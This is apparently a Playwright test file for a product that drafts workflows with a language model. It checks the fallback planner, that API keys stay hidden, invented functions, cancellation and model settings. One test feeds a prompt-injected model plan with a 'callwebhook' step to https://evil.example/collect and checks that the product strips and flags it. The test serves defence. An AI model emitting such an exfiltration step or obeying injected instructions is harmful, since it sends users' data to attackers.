/** The product with a model behind OPENAI_BASE_URL: what it answers well is drawn, what it does not is told, and a draft is made all the same. */
import { readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import { expect, type Page, test } from 'playwright/test';
import { KEY, productWithModel } from './model-product';
import { ModelServer } from './model-server';
import { Api } from './pages/api';
import { Editor } from './pages/editor';
import { Home } from './pages/home';

const MUSIC = 'It will be perfect if you play music that matches my mood. This is Anna.';
const { model, at: place } = productWithModel();

test.beforeEach(() => {
  model.questions = [];
});

const literal = (value: unknown) => ({ kind: 'literal', json: JSON.stringify(value) });
const step = (id: string, title: string, functionName: string, values: Record<string, object>) => ({
  id,
  title,
  kind: 'function',
  functionName,
  inside: null,
  after: [],
  because: null,
  alternatives: [],
  confidence: 0.9,
  arguments: Object.entries(values).map(([name, from]) => ({ name, from, because: null })),
});
const plan = JSON.stringify({
  title: 'A tune for Anna',
  steps: [
    step('who', 'Who is it', 'username2id', { name: literal('Anna') }),
    step('mood', 'How do they feel', 'getusermood', { user_id: { kind: 'step', step: 'who', field: 'user_id' } }),
  ],
  inputs: [],
  result: { kind: 'step', step: 'mood', field: null },
  notes: [],
  questions: [],
});

const workflows = async () =>
  ((await new Api(place.origin, place.data).call('GET', '/workflows')).body as unknown[]).length;
const at = async (page: Page) => {
  const home = new Home(page, place.origin);
  await home.open();
  return home;
};

test('a good answer is seen as it is written, and its steps are on the canvas', async ({ page }) => {
  let goOn = () => {};
  const half = new Promise<void>((resolve) => {
    goOn = resolve;
  });
  // Two thirds of the answer hold the first step; the rest comes when that step has been seen.
  let piece = 0;
  model.answer = { kind: 'text', text: plan, pieces: 3, each: () => (++piece === 2 ? half : Promise.resolve()) };
  const home = await at(page);
  await home.type(MUSIC);
  await page.getByRole('button', { name: 'Draft', exact: true }).click();
  await expect(page.getByRole('list', { name: 'Steps so far' }).getByText('Who is it')).toBeVisible();
  goOn();
  await page.waitForURL(/\/workflows\//);
  await new Editor(page).shows('Who is it', 'How do they feel');
  await expect(page.getByText('Draft by told-what-to-say:')).toBeVisible();
  expect(JSON.stringify(model.questions)).toContain(MUSIC);
});

for (const [what, answer, reason] of [
  ['nonsense', { kind: 'text', text: 'I like trains.' }, /could not be used after 2 corrections/],
  ['a refusal', { kind: 'refusal', text: 'I will not do that.' }, /refused: I will not do that/],
  ['401', { kind: 'status', status: 401, message: `Incorrect key: ${KEY}` }, /does not accept the key/],
  ['429', { kind: 'status', status: 429, message: `Slow down, ${KEY}` }, /takes no more requests for now \(429\)/],
  ['500', { kind: 'status', status: 500, message: `Broken for ${KEY}` }, /failed \(500\)/],
  ['a broken connection', { kind: 'reset', text: plan.slice(0, plan.length / 2) }, /could not be reached, or broke/],
  ['a plan cut in the middle', { kind: 'text', text: plan.slice(0, plan.length / 2) }, /could not be used after/],
  ['a stall', { kind: 'silence' }, /sent nothing for 20 seconds/],
] as const) {
  test(`${what}: the offline planner drafts, and the reason is shown without the key`, async ({ page }) => {
    test.setTimeout(120_000);
    model.answer = answer;
    const home = await at(page);
    await home.draft(MUSIC);
    await page.waitForURL(/\/workflows\//, { timeout: 90_000 });
    await new Editor(page).shows('Find user id', "Get user's mood", 'Recommend song', 'Play music');
    await expect(page.getByText('Draft by the offline planner:')).toBeVisible();
    await expect(page.getByText(reason).first()).toBeVisible();
    expect(await page.content()).not.toContain(KEY);
  });
}

test('functions that a model invents are shown as missing, and stand in the way of a run', async ({ page }) => {
  const invented = step('send', 'Send a drone', 'sendDroneWithMoney', { where: literal('Anna') });
  model.answer = { kind: 'text', text: JSON.stringify({ ...JSON.parse(plan), steps: [invented], result: null }) };
  const home = await at(page);
  await home.draft(MUSIC);
  await page.waitForURL(/\/workflows\//);
  await new Editor(page).shows('Send a drone');
  await expect(page.getByText('No function exists for')).toBeVisible();
  await page.getByRole('button', { name: /^Run/ }).first().click();
  await expect(page.getByText('This workflow cannot run yet.')).toBeVisible();
});

test('an obedient model gains nothing by what a prompt carries: no address that nobody wrote, and it is told', async ({
  page,
}) => {
  const out = step('out', 'Report', 'callwebhook', { url: literal('https://evil.example/collect') });
  const who = step('who', 'Who is it', 'username2id', { name: literal('Anna') });
  model.answer = { kind: 'text', text: JSON.stringify({ ...JSON.parse(plan), steps: [who, out], result: null }) };
  const home = await at(page);
  await home.draft('Find the id of Anna.');
  await page.waitForURL(/\/workflows\//);
  await new Editor(page).shows('Who is it', 'Report');
  const id = new URL(page.url()).pathname.split('/').at(-1);
  const { body } = await new Api(place.origin, place.data).call('GET', `/workflows/${id}/export`);
  expect(JSON.stringify(body)).not.toContain('evil.example');
  await page.getByRole('button', { name: /^\d+ notes?$/ }).click();
  await expect(page.getByText(/evil\.example/).first()).toBeVisible();
  expect(JSON.stringify(model.questions)).not.toContain(KEY);
});

test('a model that says nothing can be cancelled: nothing is stored, and the prompt is there again', async ({
  page,
}) => {
  model.answer = { kind: 'silence' };
  const before = await workflows();
  const home = await at(page);
  const wish = 'Count the words of "one two three" while the model sleeps.';
  await home.type(wish);
  await page.getByRole('button', { name: 'Draft', exact: true }).click();
  await expect(page.getByRole('heading', { name: 'Planning…' })).toBeVisible();
  await page.getByRole('button', { name: /^Cancel/ }).click();
  await expect(page.getByRole('heading', { name: 'What should happen?' })).toBeVisible();
  await expect(page.getByLabel('Describe what should happen')).toHaveValue(wish);
  expect(await workflows()).toBe(before);
});

test('the model is tried in the settings: it works, or it is told why not', async ({ page }) => {
  await page.goto(`${place.origin}/settings`);
  await expect(page.getByText('told-what-to-say')).toBeVisible();
  model.answer = { kind: 'text', text: 'ok' };
  await page.getByRole('button', { name: 'Test the model' }).click();
  await expect(page.getByLabel('It works')).toBeVisible();
  model.answer = { kind: 'status', status: 401, message: `Incorrect key: ${KEY}` };
  await page.getByRole('button', { name: 'Test the model' }).click();
  await expect(page.getByLabel('It does not work')).toBeVisible();
  await expect(page.getByText(/does not accept the key/)).toBeVisible();
  expect(await page.content()).not.toContain(KEY);
});

test('a model is chosen in the settings: its key is kept from everybody, and the offline planner is a choice too', async ({
  page,
}) => {
  const own = new ModelServer();
  const address = await own.listen();
  const secret = 'sk-typed-into-settings';
  await page.goto(`${place.origin}/settings`);
  const form = page.getByRole('form', { name: 'Choose a model' });
  const choose = async (provider: RegExp) => {
    await page.getByRole('button', { name: 'Choose a model' }).click();
    await form.getByLabel('Provider').click();
    await page.getByRole('option', { name: provider }).click();
  };
  const use = () => form.getByRole('button', { name: 'Use it' }).click();

  await choose(/^Server of your own/);
  await form.getByLabel('Address of the server').fill('nowhere');
  await use();
  await expect(page.getByText('“nowhere” is no address of a server.')).toBeVisible();
  await form.getByLabel('Address of the server').fill(address);
  await form.getByLabel('Model').fill('small-one');
  await form.getByLabel('Key').fill(secret);
  await use();
  await expect(page.getByText('small-one')).toBeVisible();
  own.answer = { kind: 'text', text: 'ready' };
  await page.getByRole('button', { name: 'Test the model' }).click();
  await expect(page.getByText('small-one answered: ready')).toBeVisible();
  expect(own.questions.length).toBeGreaterThan(0);
  expect(model.questions).toEqual([]);
  await page.reload();
  await expect(page.getByText('small-one')).toBeVisible();
  expect(await page.content()).not.toContain(secret);
  expect(statSync(path.join(place.data, 'model.json')).mode & 0o777).toBe(0o600);

  await choose(/^Offline planner/);
  await use();
  await expect(page.getByText('Using the offline planner')).toBeVisible();
  expect(readFileSync(path.join(place.data, 'model.json'), 'utf8')).not.toContain(secret);

  await choose(/^What the environment says/);
  await use();
  await expect(page.getByText('told-what-to-say')).toBeVisible();
  await own.close();
});
